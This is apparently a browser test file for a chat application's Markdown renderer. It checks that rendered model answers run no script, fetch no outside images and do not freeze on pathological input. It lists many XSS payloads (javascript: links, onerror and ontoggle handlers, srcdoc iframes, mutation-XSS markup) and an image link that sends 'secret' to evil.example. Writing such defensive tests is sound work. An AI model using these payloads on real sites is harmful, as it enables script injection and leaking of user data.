/** How an answer is rendered in a real browser: Markdown and safety. */
import { describe, expect, it } from 'vitest'
import { noBrowser, usePage } from './page-harness.ts'
import { recordTasks } from './page-tasks.ts'

/** Of the longest task, where all comes at once; ordinary text of this length takes a quarter of it. */
const PATHOLOGICAL_MS = 1000

const HOSTILE = [
  '[a](javascript:globalThis.owned=1) [b](JaVaScRiPt&colon;owned=1) [c](data:text/html,<script>owned=1</script>) [d](vbscript:x)',
  '[e]( java\nscript:owned=1) ![f](javascript:owned=1) <a href="javascript:owned=1">g</a> <javascript:owned=1>',
  '<img src=x onerror="globalThis.owned=1"> <svg onload="globalThis.owned=1"><animate onbegin=owned=1></svg>',
  '<details open ontoggle="globalThis.owned=1">x</details> <body onload=owned=1> <input autofocus onfocus="owned=1">',
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe> <object data="data:text/html,x"></object> <embed src="x">',
  '<form action="https://evil.example"><button formaction="javascript:owned=1">x</button></form> <base href="https://evil.example">',
  '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example> <meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mtext><table><mglyph><style><img src=x onerror="owned=1">',
  '\\(\\href{javascript:owned=1}{x} \\htmlData{a=b}{y} \\includegraphics{https://evil.example/x.png}\\)',
  '```html"><script>owned=1</script>\ncode\n```',
  '[ref]: javascript:owned=1\n\n[ref]',
]

const PATHOLOGICAL = {
  'deep quotes': `${'> '.repeat(400)}x`,
  'deep lists': Array.from({ length: 150 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  'deep brackets': `${'['.repeat(5000)}x${']('.repeat(5000)}`,
  'many emphasis signs': '*a **b _c '.repeat(3000),
  'open code spans': Array.from({ length: 300 }, (_, length) => '`'.repeat(length + 1)).join(' '),
  'open formulas': '\\(a '.repeat(3000) + '$$x '.repeat(999),
  'open tags': '<a <b <!-- <![CDATA[ '.repeat(2000),
  'deep tags': '<b>'.repeat(1500) + 'x',
  'a line of pipes': `${'|'.repeat(5000)}\n${'|-'.repeat(5000)}|`,
  'one word of 100,000 letters': 'a'.repeat(100_000),
  'zalgo and invisible characters': `${'e\u0301\u0302\u0303'.repeat(3000)}${'\u200B\u202E\u2066'.repeat(3000)}`,
} as const

describe.skipIf(noBrowser !== undefined)(`an answer on the page (${noBrowser ?? 'in Chromium'})`, () => {
  const app = usePage()

  it('renders Chinese emphasis, tables, code and formulas, and money as money', async () => {
    const stream = await app.ask('Show everything')
    stream.text('这是**“粗体”**和**粗体（括号）**很好。\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint("hi")\n```\n\n')
    stream.text('It costs $5 and $10. Inline \\(a^2 + b^2\\) and\n\n\\[ c = \\sqrt{a^2 + b^2} \\]\n')
    stream.finish()
    await app.settled('done')
    await app.page.locator('.katex-display').waitFor()
    expect(await app.page.locator('.markdown strong').allTextContents()).toEqual(['“粗体”', '粗体（括号）'])
    expect(await app.page.locator('.markdown td').allTextContents()).toEqual(['1', '2'])
    await app.page.locator('.code-line .hljs-string').waitFor()
    expect(await app.page.locator('.katex').count()).toBe(2)
    expect(await app.answer().textContent()).toContain('It costs $5 and $10.')
  })

  it('fetches no image of another host and runs nothing that the model writes', async () => {
    const outside: string[] = []
    app.page.on(
      'request',
      (request) => !request.url().startsWith(app.server.url) && !request.url().startsWith('data:') && outside.push(request.url()),
    )
    const stream = await app.ask('Attack')
    stream.text(
      '![secret](https://evil.example/pixel.png?q=secret)\n\n<img src="https://evil.example/2.png" onerror="document.title=1">\n\n',
    )
    stream.text('<script>document.title = "owned"</script><iframe src="https://evil.example"></iframe>\n\n[click](javascript:alert(1)) end')
    stream.finish()
    await app.settled('done')
    await app.page.getByText('Image not loaded, to keep your chat private · secret').waitFor()
    expect(outside).toEqual([])
    expect(await app.page.title()).toBe('Attack · bendi')
    expect(await app.answer().locator('script, iframe, a[href^="javascript"], .markdown img').count()).toBe(0)
  })

  it('makes no element that could act out of hostile markup', async () => {
    const stream = await app.ask('Attack')
    for (const attack of HOSTILE) stream.text(`${attack}\n\n`)
    stream.text('the end')
    stream.finish()
    await app.settled('done')
    await app.answer().getByText('the end').waitFor()
    await app.page.locator('.katex').first().waitFor()
    const found = await app
      .answer()
      .locator('.markdown')
      .evaluate((markdown) =>
        [...markdown.querySelectorAll('*')].flatMap((element) => {
          const acts = /^(?:script|style|iframe|object|embed|form|base|meta|link|audio|video|source|animate|set|use|textarea|select)$/i
          const attributes = [...element.attributes].filter(
            ({ name, value }) =>
              /^on|^srcdoc$|^formaction$/i.test(name) || (/href|src/i.test(name) && !/^(?:https?:|mailto:|tel:|#)/i.test(value)),
          )
          return [...(acts.test(element.tagName) ? [element.tagName] : []), ...attributes.map(({ name, value }) => `${name}=${value}`)]
        }),
      )
    expect(found).toEqual([])
    expect(await app.page.evaluate(() => 'owned' in globalThis)).toBe(false)
  })

  it('renders text made to choke a parser without freezing', async () => {
    const slow: string[] = []
    for (const [name, text] of Object.entries(PATHOLOGICAL)) {
      await app.page.goto(app.server.url)
      const stream = await app.ask(name)
      const { longest } = await recordTasks(app.page, async () => {
        stream.text(text)
        stream.finish()
        await app.settled('done')
        await app.answer().locator('.markdown > [dir]').first().waitFor({ state: 'attached' })
      })
      if (longest > PATHOLOGICAL_MS) slow.push(`${name}: ${longest} ms`)
    }
    expect(slow).toEqual([])
  })
})
